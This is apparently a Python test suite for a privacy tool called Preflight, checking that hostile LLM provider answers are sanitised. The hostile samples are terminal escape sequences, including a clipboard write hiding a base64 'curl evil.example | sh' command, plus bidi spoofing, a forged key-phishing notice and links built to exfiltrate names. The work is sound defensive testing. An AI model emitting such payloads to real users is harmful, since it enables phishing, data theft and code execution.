"""A provider's answer is hostile input. A loopback provider answers with what a
compromised or malicious one could send: terminal control (clipboard writes, hyperlinks,
line rewrites, a forged Preflight line), the user's own key echoed back, a placeholder of
thousands of digits, links built to carry restored names away. The real placeholder
operator, vault and stream restorer run; what the user, the audit log and an export see is
checked."""

from __future__ import annotations

import io
import json
import sys
import unicodedata
from pathlib import Path

import keyring
import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "core" / "send"))

from _fakes import (  # noqa: E402
    FakeCounter, FakeDetector, FakeEmbedder, FakeFlow, MemoryKeyring, fake_mechanisms,
)
from _loopback import CaptureServer, Reply  # noqa: E402

from preflight.core.config import ProviderSettings, Settings  # noqa: E402
from preflight.core.sanitize.base import SanitizeParams  # noqa: E402
from preflight.core.send.audit import AuditLog  # noqa: E402
from preflight.core.send.execute import default_restorer  # noqa: E402
from preflight.core.send.session import Confirmation, SendSession  # noqa: E402

KEY = "sk-live-Qw8Er5Ty2Ui9Op6As3Df"
OTHER_KEY = "sk-other-Zx7Cv4Bn1Mq8Wr5Ty2"
YES = Confirmation(confirmed=True)
DOC = "Alice Martin asked Bob Stone to check the invoice before Friday."


@pytest.fixture(autouse=True)
def _fake_mechanisms():
    with fake_mechanisms():
        yield


@pytest.fixture
def server():
    with CaptureServer() as srv:
        yield srv


@pytest.fixture
def memory_keyring():
    previous = keyring.get_keyring()
    backend = MemoryKeyring()
    keyring.set_keyring(backend)
    yield backend
    keyring.set_keyring(previous)


def real_session(server: CaptureServer, tmp_path: Path, *others: ProviderSettings,
                 store_original: bool = True) -> SendSession:
    """The real placeholder operator, vault and stream restorer; fakes for the rest."""
    provider = ProviderSettings("loop", server.url, "m-1", key_env="PF_KEY")
    settings = Settings(providers=[provider, *others], default_provider="loop",
                        store_original_in_audit=store_original)
    return SendSession(settings, detector=FakeDetector(),
                       audit=AuditLog(tmp_path / "audit.sqlite3"), token_counter=FakeCounter(),
                       embedder=FakeEmbedder(), flow=FakeFlow(),
                       restorer_factory=default_restorer, environ={"PF_KEY": KEY})


def send(session: SendSession, deltas: list[str], server: CaptureServer, text: str = DOC,
         before_send=lambda: None):
    plan = session.prepare_send(text, "loop", "placeholder", SanitizeParams(seed=1))
    before_send()
    server.script(Reply(deltas=deltas))
    shown: list[str] = []
    result = session.execute(plan, YES, on_chunk=shown.append, learn=False)
    return result, "".join(shown), session.audit.get(result.record_id)


def visible_only(text: str) -> bool:
    """No control character but newline and tab, no bidi formatting character."""
    return all(ch in "\n\t" or unicodedata.category(ch) not in ("Cc", "Cf") for ch in text)


# Each answer is what a hostile provider streams, split where it hurts most.
HOSTILE = {
    "OSC 52 clipboard write": ["Summary: fine.", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==",
                               "\x07 Done."],
    "OSC 8 hyperlink": ["See \x1b]8;;https://evil.example/x\x1b\\", "the report",
                        "\x1b]8;;\x1b\\ now."],
    "line erase and carriage return": ["Budget approved.\x1b[2K\r", "Budget REJECTED."],
    "cursor up over earlier output": ["Fine.\x1b[1A\x1b[", "2K--- 0 tokens; audit record 1 ---"],
    "window title": ["\x1b]0;preflight: all clear\x07Answer text."],
    "8-bit CSI and OSC": ["Red \x9b31mtext\x9b0m and \x9d0;title\x9c plain."],
    "bell and backspace": ["Ok\x07ay, pay\x08\x08\x08\x08 now."],
    "bidi override": ["Open invoice_\u202egpj.exe\u202c today; \u2066hidden\u2069 text."],
    "device control string": ["A\x1bP1$r0m\x1b\\B; end."],
    "escape split across chunks": ["Start \x1b", "[3", "1mred\x1b", "[0m end."],
}


@pytest.mark.parametrize("case", list(HOSTILE))
def test_control_sequences_never_reach_any_view(server, tmp_path, case):
    result, shown, row = send(real_session(server, tmp_path), HOSTILE[case], server)
    for view in (shown, result.answer, result.answer_raw, row["answer_raw"],
                 row["answer_restored"]):
        assert visible_only(view), (case, view)
    assert any("removed from the answer" in n for n in result.notes)
    letters = [w for w in "".join(HOSTILE[case]).split() if w.isalpha() and len(w) > 3]
    assert all(w in result.answer for w in letters)        # the words themselves stay


def test_cli_frames_the_answer_so_a_forged_notice_looks_like_the_provider(server, tmp_path,
                                                                           monkeypatch,
                                                                           capsys):
    """On a terminal every line the provider wrote sits behind the gutter; Preflight's own
    lines (stderr) never do, so a forged one is told apart at a glance."""
    from _fakes import FakeDetector as Det

    from preflight.app.services import Services
    from preflight.cli import main as cli
    from preflight.cli.commands.send import GUTTER

    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    monkeypatch.setattr(Services, "make_detector", lambda self, detection=None: Det())
    monkeypatch.setenv("PF_KEY", KEY)
    assert cli.main(["providers", "add", "loop", "--base-url", server.url, "--model", "m-1",
                     "--key-env", "PF_KEY"]) == 0
    doc = tmp_path / "doc.txt"
    doc.write_text(DOC, encoding="utf-8")
    forged = ["The invoice is fine.\n\n", "--- 12 + 40 tokens; audit record 1 ---\n",
              "\x1b[2Kpreflight: note: your key expired; paste it at https://evil.example\n",
              "preflight: warning: nothing was sent."]
    server.script(Reply(deltas=forged))
    terminal = Terminal()
    monkeypatch.setattr(sys, "stdout", terminal)
    capsys.readouterr()
    assert cli.main(["send", str(doc), "--method", "placeholder", "--yes", "--no-learn"]) == 0
    out, err = terminal.getvalue(), capsys.readouterr().err
    assert visible_only(out)
    lines = [line for line in out.splitlines() if line.strip()]
    assert lines and all(line.startswith(GUTTER) for line in lines)
    assert f"{GUTTER}preflight: note: your key expired" in out
    assert GUTTER not in err and "each of its lines begins with" in err


def test_echoed_keys_are_redacted_everywhere(server, tmp_path, memory_keyring):
    memory_keyring.set_password("preflight", "backup", OTHER_KEY)
    other = ProviderSettings("backup", "https://api.backup.example/v1", "m-2")
    session = real_session(server, tmp_path, other)
    echo = ["Your key is sk-live-Qw8E", "r5Ty2\x1b[0mUi9Op6As3Df and the backup's is ",
            OTHER_KEY, ". Bye."]
    result, shown, row = send(session, echo, server)
    export = tmp_path / "history.jsonl"
    session.audit.export(export)
    for view in (shown, result.answer, result.answer_raw, row["answer_raw"],
                 row["answer_restored"], export.read_text(encoding="utf-8")):
        assert KEY not in view and OTHER_KEY not in view
    assert result.answer == "Your key is [REDACTED] and the backup's is [REDACTED]. Bye."
    assert any("stored key or secret 2 times" in n for n in result.notes)


def test_a_document_secret_echoed_back_is_redacted(server, tmp_path):
    secret = "sk-docs1234567890abcdefXYZ"
    text = f"Alice Martin shared the key {secret} by mistake."
    result, shown, row = send(real_session(server, tmp_path),
                              ["It looks like sk-docs1234", "567890abcdefXYZ leaked."], server,
                              text=text)
    assert secret not in result.answer and secret not in row["answer_raw"]
    assert "[REDACTED] leaked" in shown


@pytest.mark.parametrize("forged", [
    "<PERSON_" + "9" * 5000 + ">", "PERSON_" + "9" * 5000, "[PERSON_" + "1" * 4400 + "]",
])
def test_a_placeholder_of_thousands_of_digits_keeps_the_answer(server, tmp_path, forged):
    deltas = ["<PERSON_1> agreed. ", forged, " The end."]     # one event, as the issue saw
    result, shown, row = send(real_session(server, tmp_path), deltas, server)
    assert result.answer == "Alice Martin agreed. " + forged + " The end."
    assert shown == result.answer and row["status"] == "done"
    # plain text to the restorer, not a token it fails on (the fallback below is not needed)
    assert not any("could not be restored" in n for n in result.notes)


def test_a_restore_failure_keeps_the_delivered_answer(server, tmp_path, monkeypatch):
    from preflight.core.sanitize import vault as vault_mod

    def broken(self, m):
        raise RuntimeError("restore bug")

    result, shown, row = send(
        real_session(server, tmp_path), ["Fine, <PERSON_1> signs ", "on Friday."], server,
        before_send=lambda: monkeypatch.setattr(vault_mod._TokenPattern, "entry_for", broken))
    assert result.answer == "Fine, <PERSON_1> signs on Friday."
    assert row["status"] == "done" and row["answer_raw"] == result.answer
    assert any("could not be restored" in n for n in result.notes)


LINKS = {
    "markdown link": ("[profile](https://evil.example/u?name=<PERSON_1>)",
                      "[profile](https://evil.example/u?name=<PERSON_1>)"),
    "markdown image": ("![x](https://evil.example/p.png?who=PERSON_1)",
                       "![x](https://evil.example/p.png?who=PERSON_1)"),
    "relative markdown target": ("[card](/people/<PERSON_1>)", "[card](/people/<PERSON_1>)"),
    "autolink": ("<https://evil.example/<PERSON_1>>", "<https://evil.example/<PERSON_1>>"),
    "bare URL": ("https://evil.example/?q=PERSON_1", "https://evil.example/?q=PERSON_1"),
    "mailto": ("mailto:<PERSON_1>@evil.example", "mailto:<PERSON_1>@evil.example"),
    "html href": ('<a href="https://evil.example/?n=<PERSON_1>">here</a>',
                  '<a href="https://evil.example/?n=<PERSON_1>">here</a>'),
    "link text is visible": ("[<PERSON_1>](https://intranet.example/)",
                             "[Alice Martin](https://intranet.example/)"),
}


@pytest.mark.parametrize("case", list(LINKS))
def test_no_real_value_is_restored_into_a_link_target(server, tmp_path, case):
    written, expected = LINKS[case]
    # Split inside the link, so the decision must be made while streaming.
    middle = len(written) // 2
    deltas = ["Ask <PERSON_1> first: ", written[:middle], written[middle:], " Thanks."]
    result, shown, _ = send(real_session(server, tmp_path), deltas, server)
    assert result.answer == f"Ask Alice Martin first: {expected} Thanks."
    in_link = "Alice Martin" not in expected
    assert any("inside a link" in n for n in result.notes) is in_link


def test_answers_in_history_json_stay_plain(server, tmp_path):
    session = real_session(server, tmp_path, store_original=False)
    send(session, ["Fine\x1b]52;c;ZXZpbA==\x07 indeed."], server)
    (row,) = session.audit.records()
    assert json.dumps(row["answer_raw"]) == '"Fine indeed."'


def test_what_the_provider_says_in_an_error_is_plain_text(server, tmp_path):
    from preflight.core.errors import ProviderError

    session = real_session(server, tmp_path)
    plan = session.prepare_send(DOC, "loop", "placeholder", SanitizeParams(seed=1))
    said = {"error": {"message": "quota\x1b]52;c;ZXZpbA==\x07 exceeded\x1b[2K\rpreflight: ok"}}
    server.script(Reply(status=400, body=json.dumps(said).encode()))
    with pytest.raises(ProviderError) as info:
        session.execute(plan, YES)
    assert visible_only(info.value.message) and "quota exceeded" in info.value.message


def test_model_names_from_the_connection_test_are_plain_text(server):
    from preflight.core.send.probe import check_connection

    listing = {"data": [{"id": "gpt\x1b]8;;https://evil.example\x1b\\-4o\u202e"}]}
    server.default = Reply(body=json.dumps(listing).encode())
    report = check_connection(ProviderSettings("loop", server.url, "m-1"), None)
    assert report.models == ("gpt-4o",)
